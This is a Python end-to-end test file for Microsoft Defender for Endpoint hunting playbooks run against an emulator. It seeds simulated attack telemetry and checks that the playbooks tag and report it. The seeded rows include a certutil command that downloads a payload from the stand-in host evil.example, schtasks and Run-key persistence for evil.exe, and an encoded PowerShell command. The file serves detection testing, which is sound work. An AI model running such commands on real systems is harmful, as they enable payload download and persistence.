"""The Defender for Endpoint hunting playbooks, run with ``xsoar-local playbook run`` against the emulator: the three
sub-playbooks of "MDE - Host Advanced Hunting" (persistence, network activity, PowerShell executions), the parent
calling them, and "MDE - Search and Compare Process Executions".

Each case first adds the telemetry a query looks for to the emulator's hunting tables on one machine (the admin
API's ``hunting-rows``), runs the playbook through the CLI the way a user does, and checks what it left: the tags and
severity on the incident, the rows in its declared outputs (from that machine only), and that a machine without the
evidence gets no tag.
"""
from __future__ import annotations

import json

import pytest
from e2e_runtime import as_list
from test_e2e_pack_playbooks import Runner, failures, no_failures

from microsoft_emulator.defender_endpoint.seed import file_hashes
from microsoft_emulator.testing import admin

pytestmark = pytest.mark.e2e

PERSISTENCE = 'MDE - Host Advanced Hunting For Persistence'
NETWORK = 'MDE - Host Advanced Hunting For Network Activity'
POWERSHELL = 'MDE - Host Advanced Hunting For Powershell Executions'
COMPARE = 'MDE - Search and Compare Process Executions'
NOTE = 'Note the inputs not acted on'


@pytest.fixture
def playbook(e2e_emulator, tmp_path) -> Runner:
    return Runner(e2e_emulator, tmp_path)


@pytest.fixture
def mde(e2e_emulator) -> tuple[str, str]:
    """The Defender for Endpoint store back to its seed with its default settings (nothing here waits on a machine
    action, and the next module of this worker finds the defaults): (emulator URL, CA)."""
    url, ca = e2e_emulator.url, str(e2e_emulator.ca_path)
    admin(url, 'POST', '/mde/reset', verify=ca)
    return url, ca


def active_machines(mde) -> list[dict]:
    url, ca = mde
    return [m for m in admin(url, 'GET', '/mde/machines', verify=ca) if m['healthStatus'] == 'Active'
            and not m['broken']]


def add_rows(mde, table: str, machine: dict, *rows: dict) -> None:
    """Telemetry on ``machine`` in one hunting table (columns not given are null, the time is now)."""
    url, ca = mde
    on_machine = [{'DeviceId': machine['id'], 'DeviceName': machine['computerDnsName'], **row} for row in rows]
    admin(url, 'POST', '/mde/hunting-rows', verify=ca, json={'table': table, 'rows': on_machine})


def tags(result: dict) -> set[str]:
    return set(as_list(result['incident'].get('tags') or []))


def rows_of(result: dict, output: str, purpose: str) -> list[dict]:
    """The rows one query purpose wrote: each command's ``{purpose: rows}`` is one more item of the output."""
    return [row for item in as_list(result['outputs'][output]) for row in as_list(item.get(purpose) or [])]


# ---- persistence ------------------------------------------------------------------------------------------------

def persistence_evidence(mde, target: dict) -> None:
    add_rows(mde, 'DeviceProcessEvents', target, {
        'ActionType': 'ProcessCreated', 'FileName': 'schtasks.exe',
        'ProcessCommandLine': 'schtasks.exe /create /tn Updater /tr C:\\ProgramData\\evil.exe /sc onlogon'})
    add_rows(mde, 'DeviceFileEvents', target, {
        'ActionType': 'FileCreated', 'FileName': 'evil.lnk',
        'FolderPath': 'C:\\Users\\alex\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup'})
    add_rows(mde, 'DeviceRegistryEvents', target, {
        'ActionType': 'RegistryValueSet',
        'RegistryKey': 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
        'RegistryValueName': 'Updater', 'InitiatingProcessFileName': 'evil.exe',
        'InitiatingProcessCommandLine': 'C:\\ProgramData\\evil.exe --install'})
    add_rows(mde, 'DeviceEvents', target, *({'ActionType': action, 'InitiatingProcessCommandLine': 'net.exe'}
                                            for action in ('ServiceInstalled', 'UserAccountCreated',
                                                           'UserAccountAddedToLocalGroup', 'SecurityGroupCreated')))


PERSISTENCE_TAGS = {'Created Scheduled Tasks', 'Startup Folder Modification', 'Registry Modification',
                    'New Service Created', 'User Creation', "User's Group Modification", 'Local Group Creation'}


def test_persistence_from_the_incident_fields(playbook, mde):
    """Given persistence evidence on a machine and an incident naming the machine and the file (no inputs given),
    When the persistence playbook runs, Then every query finds its evidence on that machine only, and the incident
    is tagged for each and raised to High."""
    target, _ = active_machines(mde)[:2]
    persistence_evidence(mde, target)
    incident = {'id': '31', 'name': 'persistence', 'agentsid': [target['id']], 'filenames': ['evil.exe']}
    result = no_failures(playbook(PERSISTENCE, incident=incident))
    assert tags(result) == PERSISTENCE_TAGS
    assert result['incident']['severity'] == 'High'
    output = 'MicrosoftATP.HuntPersistenceEvidence.Result'
    for purpose in ('scheduled_job', 'startup_folder_changes', 'registry_entry', 'new_service_created', 'new_user',
                    'group_user_change', 'new_group'):
        assert {r['DeviceId'] for r in rows_of(result, output, purpose)} == {target['id']}, purpose
    assert 'evil.exe' in rows_of(result, output, 'registry_entry')[0]['InitiatingProcessCommandLine']
    # the official inputs it keeps and does not hunt with are listed, with their values, for the analyst
    notes = [str(e.get('Contents')) for e in result['war_room'] if isinstance(e, dict)]
    assert any('does not act on' in n and 'IP=' in n and 'FileSha1=' in n for n in notes), notes


def test_persistence_on_a_clean_machine_tags_nothing(playbook, mde):
    """Given evidence on one machine, When the persistence playbook hunts on another by host name, Then it runs every
    query, finds nothing and leaves the incident as it was; without a machine it runs no query at all."""
    target, clean = active_machines(mde)[:2]
    persistence_evidence(mde, target)
    result = no_failures(playbook(PERSISTENCE, incident={'id': '32', 'name': 'clean'},
                                  DeviceName=clean['computerDnsName'], FileName='evil.exe'))
    assert not tags(result) and 'severity' not in result['incident']
    assert 'Members added to local groups' in {t['name'] for t in result['tasks']}
    result = no_failures(playbook(PERSISTENCE, incident={'id': '33', 'name': 'nothing'}))
    assert [t['name'] for t in result['tasks'] if t['kind'] == 'regular'] == [NOTE]


# ---- network activity -------------------------------------------------------------------------------------------

def test_network_activity(playbook, mde):
    """Given a file that connected out, and remote management, SMB to ten hosts, DNS, firewall and hosts file
    changes on a machine, When the network activity playbook runs, Then each is found and tagged."""
    target = active_machines(mde)[0]
    _, sha256, _ = file_hashes(5)
    add_rows(mde, 'DeviceNetworkEvents', target,
             {'ActionType': 'ConnectionSuccess', 'RemoteIP': '203.0.113.9', 'RemotePort': 443,
              'RemoteIPType': 'Public', 'InitiatingProcessFileName': 'rclone.exe', 'InitiatingProcessSHA256': sha256},
             {'ActionType': 'ConnectionSuccess', 'RemoteIP': '10.1.0.20', 'RemotePort': 3389,
              'RemoteIPType': 'Private', 'InitiatingProcessFileName': 'mstsc.exe'},
             *({'ActionType': 'ConnectionSuccess', 'RemoteIP': f'10.1.9.{n}', 'RemotePort': 445,
                'RemoteIPType': 'Private', 'InitiatingProcessFileName': 'net.exe'} for n in range(10)))
    add_rows(mde, 'DeviceEvents', target, {'ActionType': 'DnsQueryResponse', 'RemoteUrl': 'exfil.example'},
             {'ActionType': 'FirewallRuleAdded', 'InitiatingProcessCommandLine': 'netsh advfirewall firewall add'})
    add_rows(mde, 'DeviceFileEvents', target, {'ActionType': 'FileModified', 'FileName': 'hosts',
                                               'FolderPath': 'C:\\Windows\\System32\\drivers\\etc'})
    result = no_failures(playbook(NETWORK, incident={'id': '34', 'name': 'network'}, DeviceID=target['id'],
                                  FileSha256=sha256))
    assert tags(result) == {'File External Connections', 'DNS Requests', 'Remote Connections',
                            'Enumeration of Network Shares', 'Local FW Rules Change', 'hosts File Modification'}
    [external] = rows_of(result, 'MicrosoftATP.HuntNetworkConnections.Result', 'external_addresses')
    assert (external['RemoteIP'], external['DeviceId']) == ('203.0.113.9', target['id'])
    [smb] = rows_of(result, 'MicrosoftATP.HuntLateralMovementEvidence.Result', 'smb_connections')
    assert (smb['InitiatingProcessFileName'], smb['RemoteIPCount']) == ('net.exe', 10)
    [rdp] = rows_of(result, 'MicrosoftATP.HuntLateralMovementEvidence.Result', 'management_connection')
    assert rdp['RemotePort'] == 3389
    assert rows_of(result, 'MicrosoftATP.HuntPersistenceEvidence.Result', 'host_file_change')[0]['FileName'] == 'hosts'


def test_network_activity_of_a_file_alone(playbook, mde):
    """Given only a file hash the seed's telemetry has no connection for, When the playbook runs, Then it hunts the
    file on every machine, skips the machine queries and tags nothing."""
    sha1, _, _ = file_hashes(0)
    result = no_failures(playbook(NETWORK, incident={'id': '35', 'name': 'file'}, FileSha1=sha1))
    assert not tags(result)
    ran = [t['name'] for t in result['tasks']]
    assert 'Connections of the file to public addresses' in ran and 'DNS requests of the machines' not in ran


# ---- PowerShell executions --------------------------------------------------------------------------------------

def test_powershell_executions(playbook, mde):
    """Given a file that ran and that Defender has seen on two machines, and PowerShell starting processes, loading a
    module and running an encoded command on the machine, When the PowerShell playbook runs, Then all of it is
    found and tagged, and the machines with the file are listed."""
    target = active_machines(mde)[0]
    sha1, sha256, md5 = file_hashes(1)                     # the seed observes file 1 on two machines
    add_rows(mde, 'DeviceProcessEvents', target,
             {'ActionType': 'ProcessCreated', 'FileName': 'invoice_2026.docm', 'SHA1': sha1, 'SHA256': sha256,
              'MD5': md5, 'ProcessCommandLine': 'WINWORD.EXE invoice_2026.docm'},
             {'ActionType': 'ProcessCreated', 'FileName': 'whoami.exe', 'ProcessCommandLine': 'whoami /all',
              'InitiatingProcessFileName': 'powershell.exe'},
             {'ActionType': 'ProcessCreated', 'FileName': 'powershell.exe',
              'ProcessCommandLine': 'powershell.exe -nop -enc SQBFAFgA', 'InitiatingProcessFileName': 'cmd.exe'})
    add_rows(mde, 'DeviceImageLoadEvents', target, {'ActionType': 'ImageLoaded', 'FileName': 'loader.dll',
                                                    'FolderPath': 'C:\\Temp', 'InitiatingProcessFileName': 'pwsh.exe'})
    result = no_failures(playbook(POWERSHELL, incident={'id': '36', 'name': 'powershell', 'filesha1': [sha1]},
                                  DeviceID=target['id']))
    assert tags(result) == {'Multi affected Devices', 'PowerShell Execution', 'Encoded Command'}
    assert result['incident']['severity'] == 'High'
    output = 'MicrosoftATP.HuntProcessDetails.Result'
    assert rows_of(result, output, 'process_details')[0]['SHA1'] == sha1
    assert rows_of(result, output, 'process_excecution_powershell')[0]['FileName'] == 'whoami.exe'
    assert rows_of(result, output, 'powershell_execution_unsigned_files')[0]['FileName'] == 'loader.dll'
    encoded = rows_of(result, 'MicrosoftATP.HuntNetworkConnections.Result', 'encoded_commands')
    assert [r['ProcessCommandLine'] for r in encoded] == ['powershell.exe -nop -enc SQBFAFgA']
    assert len(as_list(result['outputs']['MicrosoftATP.FileMachine']['Machines'])) == 2


# ---- the parent ---------------------------------------------------------------------------------------------------

def test_host_advanced_hunting_runs_its_sub_playbooks(playbook, mde):
    """Given persistence evidence on a machine, When "MDE - Host Advanced Hunting" runs on it, Then it runs the three
    sub-playbooks with its inputs, their findings come back into its own outputs (they run on a separate context),
    and their tags are on the incident."""
    target = active_machines(mde)[0]
    persistence_evidence(mde, target)
    result = no_failures(playbook('MDE - Host Advanced Hunting', incident={'id': '37', 'name': 'hunt'},
                                  DeviceID=target['id'], FileName='evil.exe'))
    assert {PERSISTENCE, NETWORK, POWERSHELL} <= {t['playbook'] for t in result['tasks']}
    assert PERSISTENCE_TAGS <= tags(result)
    jobs = rows_of(result, 'MicrosoftATP.HuntPersistenceEvidence.Result', 'scheduled_job')
    assert {r['DeviceId'] for r in jobs} == {target['id']}
    assert any('dns_query' in item for item in as_list(result['outputs']['MicrosoftATP.HuntNetworkConnections.Result']))


# ---- search and compare -------------------------------------------------------------------------------------------

def test_search_and_compare_process_executions(playbook, mde):
    """Given two certutil executions on a machine, one close to the expected download command line and one not,
    When the playbook searches certutil.exe, Then only the close one is a finding, with its host and user, and the
    similarity of the pair is in the outputs."""
    target = active_machines(mde)[0]
    download = 'certutil.exe -urlcache -split -f http://evil.example/a.exe a.exe'
    add_rows(mde, 'DeviceProcessEvents', target,
             {'ActionType': 'ProcessCreated', 'FileName': 'certutil.exe', 'ProcessCommandLine': download,
              'AccountName': 'alex'},
             {'ActionType': 'ProcessCreated', 'FileName': 'certutil.exe', 'AccountName': 'alex',
              'ProcessCommandLine': 'certutil.exe -hashfile C:\\Temp\\report.txt SHA256'})
    expected = 'certutil.exe -urlcache -split -f http://example.com/payload.exe payload.exe'
    processes = [{'value': 'certutil.exe', 'commands': expected}]
    result = no_failures(playbook(COMPARE, incident={'id': '38', 'name': 'compare'}, Processes=json.dumps(processes)))
    [finding] = as_list(result['outputs']['Findings'])
    assert (finding['cmd'], finding['processname']) == (download, 'certutil.exe')
    assert (finding['hostname'], finding['username']) == (target['computerDnsName'], 'alex')
    [pair] = as_list(result['outputs']['StringSimilarity'])
    assert (pair['StringA'], pair['StringB']) == (download, expected) and pair['SimilarityScore'] >= 0.5


def test_search_and_compare_nothing_ran(playbook, mde):
    """Given a process that never ran, When the playbook searches it, Then the search runs, finds nothing and the
    playbook ends without comparing or findings."""
    processes = [{'value': 'never-ran.exe', 'commands': 'never-ran.exe --now'}]
    result = no_failures(playbook(COMPARE, incident={'id': '39', 'name': 'compare'}, Processes=json.dumps(processes),
                                  HuntingTimeFrame='2 days'))
    assert result['outputs']['Findings'] is None and result['outputs']['StringSimilarity'] is None
    ran = [t['name'] for t in result['tasks']]
    assert 'Search the executions of the processes' in ran and 'Compare the command lines' not in ran
    assert not failures(result)
